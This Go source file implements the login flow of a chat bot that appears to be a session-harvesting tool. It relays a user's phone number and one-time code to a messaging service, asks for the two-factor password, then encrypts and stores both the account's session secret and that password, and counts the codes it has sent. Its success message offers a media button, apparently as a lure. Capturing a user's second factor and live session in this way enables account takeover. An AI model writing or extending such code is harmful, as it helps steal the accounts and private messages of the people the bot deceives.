package login

import (
	"context"
	"fmt"
	"strings"

	"github.com/dmitrijs2005/sessionvault/internal/bot/models"
	"github.com/dmitrijs2005/sessionvault/internal/bot/ui"
	"github.com/dmitrijs2005/sessionvault/internal/logging"
	"github.com/dmitrijs2005/sessionvault/internal/telelink"
)

// noPasswordPlaceholder is stored (encrypted) for accounts without a second
// factor, so every credential row has the same shape.
const noPasswordPlaceholder = "No Password"

// Store is the durable side of a successful login. Implementations must
// commit before returning; a reported success may not be lost by a crash.
type Store interface {
	PutCredential(ctx context.Context, cred *models.Credential) error
	IncrementCounter(ctx context.Context, name string) error
}

// Box encrypts secret strings before they reach the Store.
type Box interface {
	Encrypt(plaintext string) (string, error)
}

// Machine drives login sessions through the handshake. It assumes the caller
// (the dispatcher) serializes events per user; it never shares a session's
// protocol handle across goroutines.
type Machine struct {
	dialer              telelink.Dialer
	registry            *Registry
	store               Store
	box                 Box
	logger              logging.Logger
	maxPasswordAttempts int
}

func NewMachine(dialer telelink.Dialer, registry *Registry, store Store, box Box,
	logger logging.Logger, maxPasswordAttempts int) *Machine {
	if maxPasswordAttempts < 1 {
		maxPasswordAttempts = 1
	}
	return &Machine{
		dialer:              dialer,
		registry:            registry,
		store:               store,
		box:                 box,
		logger:              logger.With("module", "login_machine"),
		maxPasswordAttempts: maxPasswordAttempts,
	}
}

// StartLogin begins a fresh handshake for the given phone number. A login
// already in flight for the user is cancelled and restarted. Phone numbers
// must carry the leading international marker; anything else is rejected
// without touching the remote service.
func (m *Machine) StartLogin(ctx context.Context, userID int64, phone string) (ui.Render, error) {
	phone = strings.TrimSpace(phone)
	if !strings.HasPrefix(phone, "+") {
		return ui.Render{Text: "❌ Invalid phone format. Send your number with +, e.g. `+201234567890`."}, nil
	}

	// Stage re-entry is an implicit cancel-and-restart.
	m.registry.End(userID)

	s, err := m.registry.Begin(userID, phone)
	if err != nil {
		return ui.Render{}, err
	}

	log := m.logger.With("user_id", userID, "attempt", s.AttemptID)

	handle, err := m.dialer.Connect(ctx)
	if err != nil {
		m.registry.End(userID)
		log.Error(ctx, "protocol connect failed", "error", err)
		return ui.Render{Text: "⚠️ Could not reach the service. Please try again later."}, nil
	}
	if !s.attachHandle(handle) {
		// Session was ended while connecting; the handle is already closed.
		log.Warn(ctx, "session ended during connect")
		return ui.Render{Text: "⚠️ Could not reach the service. Please try again later."}, nil
	}

	codeHash, err := s.requestCode(ctx, phone)
	if err != nil {
		m.registry.End(userID)
		log.Error(ctx, "code request failed", "error", err)
		return ui.Render{Text: "⚠️ Could not send a code to that number. Please try again later."}, nil
	}

	s.CodeHash = codeHash
	s.PendingCode = ""
	s.Stage = StageAwaitingCode

	if err := m.store.IncrementCounter(ctx, models.CounterCodesSent); err != nil {
		log.Error(ctx, "counter increment failed", "error", err)
	}
	log.Info(ctx, "code requested")

	return ui.Render{Text: "📲 Enter the code you received:", Buttons: ui.DigitKeyboard()}, nil
}

// Digit feeds one or more code digits into the session. Button presses and
// typed digits arrive through the same path. The code is submitted once its
// length reaches the expected size; until then the accumulated code is echoed
// back as a re-rendered prompt.
func (m *Machine) Digit(ctx context.Context, userID int64, digits string) (ui.Render, error) {
	s := m.registry.Get(userID)
	if s == nil || s.Stage != StageAwaitingCode {
		return ui.Render{}, nil
	}

	s.PendingCode += digits
	if len(s.PendingCode) < codeLength {
		return ui.Render{
			Text:    fmt.Sprintf("Current code: `%s`", s.PendingCode),
			Buttons: ui.DigitKeyboard(),
			Edit:    true,
		}, nil
	}

	return m.submitCode(ctx, s)
}

func (m *Machine) submitCode(ctx context.Context, s *Session) (ui.Render, error) {
	log := m.logger.With("user_id", s.UserID, "attempt", s.AttemptID)

	res, err := s.sendCode(ctx, s.Phone, s.PendingCode, s.CodeHash)
	if err != nil {
		m.registry.End(s.UserID)
		log.Error(ctx, "code submit failed", "error", err)
		return ui.Render{Text: "⚠️ Could not reach the service. Please log in again."}, nil
	}

	switch res.Status {
	case telelink.StatusOK:
		return m.finish(ctx, s, noPasswordPlaceholder, res.Session)

	case telelink.StatusSecondFactor:
		// Keep the handle open and the pending code as-is.
		s.Stage = StageAwaitingPassword
		log.Info(ctx, "second factor required")
		return ui.Render{Text: "🔐 2FA enabled. Please send your password."}, nil

	default:
		m.registry.End(s.UserID)
		log.Warn(ctx, "sign-in rejected", "reason", res.Message)
		return ui.Render{Text: fmt.Sprintf("⚠️ Login error: %s", res.Message)}, nil
	}
}

// Password completes a second-factor login. Failed attempts are retried up to
// the configured budget before the session is torn down.
func (m *Machine) Password(ctx context.Context, userID int64, password string) (ui.Render, error) {
	s := m.registry.Get(userID)
	if s == nil || s.Stage != StageAwaitingPassword {
		return ui.Render{}, nil
	}

	log := m.logger.With("user_id", s.UserID, "attempt", s.AttemptID)

	res, err := s.sendPassword(ctx, password)
	if err != nil {
		m.registry.End(userID)
		log.Error(ctx, "password submit failed", "error", err)
		return ui.Render{Text: "⚠️ Could not reach the service. Please log in again."}, nil
	}

	if res.Status == telelink.StatusOK {
		return m.finish(ctx, s, password, res.Session)
	}

	s.PasswordAttempts++
	if s.PasswordAttempts < m.maxPasswordAttempts {
		log.Warn(ctx, "password rejected", "attempts", s.PasswordAttempts)
		return ui.Render{Text: fmt.Sprintf("❌ 2FA error: %s\nTry again.", res.Message)}, nil
	}

	m.registry.End(userID)
	log.Warn(ctx, "password attempts exhausted", "attempts", s.PasswordAttempts)
	return ui.Render{Text: fmt.Sprintf("❌ 2FA error: %s", res.Message)}, nil
}

// finish encrypts and persists the credential, then tears the session down.
// The session secret and password never leave this function in plaintext.
func (m *Machine) finish(ctx context.Context, s *Session, password, session string) (ui.Render, error) {
	log := m.logger.With("user_id", s.UserID, "attempt", s.AttemptID)

	encPassword, err := m.box.Encrypt(password)
	if err != nil {
		m.registry.End(s.UserID)
		return ui.Render{}, err
	}
	encSession, err := m.box.Encrypt(session)
	if err != nil {
		m.registry.End(s.UserID)
		return ui.Render{}, err
	}

	cred := &models.Credential{
		UserID:      s.UserID,
		Phone:       s.Phone,
		EncPassword: encPassword,
		EncSession:  encSession,
	}
	if err := m.store.PutCredential(ctx, cred); err != nil {
		// Nothing is assumed persisted; do not report success.
		m.registry.End(s.UserID)
		log.Error(ctx, "credential store failed", "error", err)
		return ui.Render{Text: "⚠️ Something went wrong saving your login. Please try again."}, nil
	}

	s.Stage = StageAuthenticated
	m.registry.End(s.UserID)
	log.Info(ctx, "login complete")

	return ui.Render{Text: "✅ Login successful! Use the button below:", Buttons: ui.MediaKeyboard()}, nil
}
